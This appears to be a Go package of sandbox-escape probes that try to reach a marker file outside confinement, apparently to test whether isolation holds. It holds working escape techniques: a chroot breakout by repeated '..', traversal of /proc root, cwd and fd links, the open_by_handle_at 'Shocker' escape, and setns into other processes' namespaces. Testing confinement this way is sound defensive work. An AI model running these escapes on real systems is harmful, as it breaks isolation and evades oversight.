package escape

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// These look for the file outside.

// climb is what chroot(2) alone does not hold: with the root moved below the
// directory the process is in, .. leads up without end.
func climb(t *Target) error {
	dir, err := scratch()
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	up, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.Chroot(dir); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	if err := unix.Fchdir(up); err != nil {
		return err
	}
	for range 64 {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return readMarker(t, t.Marker)
}

// byProcess goes through the links of every process it sees: their roots, working
// directories and open files.
func byProcess(t *Target) error {
	if readMarker(t, t.Marker) == nil {
		return absent("it is in sight anyway")
	}
	links, _ := filepath.Glob("/proc/[0-9]*/root")
	for _, root := range links {
		if readMarker(t, root+t.Marker) == nil {
			return nil
		}
		for _, l := range []string{"/cwd/", "/fd/*/"} {
			found, _ := filepath.Glob(filepath.Dir(root) + l + filepath.Base(t.Marker))
			for _, f := range found {
				if readMarker(t, f) == nil {
					return nil
				}
			}
		}
	}
	return fmt.Errorf("%d processes in sight, and no way out by them", len(links))
}

// byHandle opens a file by its number on the file system that it and another, which
// the machine was given, are on ("Shocker", 2014).
func byHandle(t *Target) error {
	at := t.Shared
	if _, err := os.Stat(at); err != nil {
		return absent("nothing of its file system is here")
	}
	mount, err := unix.Open(at, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mount)
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(t.Type, t.Handle), unix.O_RDONLY)
	if err != nil {
		return fmt.Errorf("open_by_handle_at: %w", err)
	}
	defer unix.Close(fd)
	b := make([]byte, len(t.Text)+1)
	n, err := unix.Read(fd, b)
	if err != nil || string(b[:n]) != t.Text {
		return fmt.Errorf("it is another file: %v", err)
	}
	return nil
}

// joinOthers enters namespaces that are not its own, of whoever it sees.
func joinOthers(*Target) error {
	own := map[string]string{}
	kinds := []string{"mnt", "net", "uts", "ipc", "user", "pid", "cgroup"}
	for _, k := range kinds {
		own[k], _ = os.Readlink("/proc/self/ns/" + k)
	}
	held := errors.New("nobody in sight with other namespaces")
	all, _ := filepath.Glob("/proc/[0-9]*/ns")
	for _, ns := range all {
		for _, k := range kinds {
			to, err := os.Readlink(ns + "/" + k)
			if err != nil || to == own[k] {
				continue
			}
			fd, err := unix.Open(ns+"/"+k, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				if k == "mnt" {
					unix.Unshare(unix.CLONE_FS)
				}
				err = unix.Setns(fd, 0)
				unix.Close(fd)
			}
			if err == nil {
				return nil
			}
			held = fmt.Errorf("setns %s: %w", k, err)
		}
	}
	return held
}
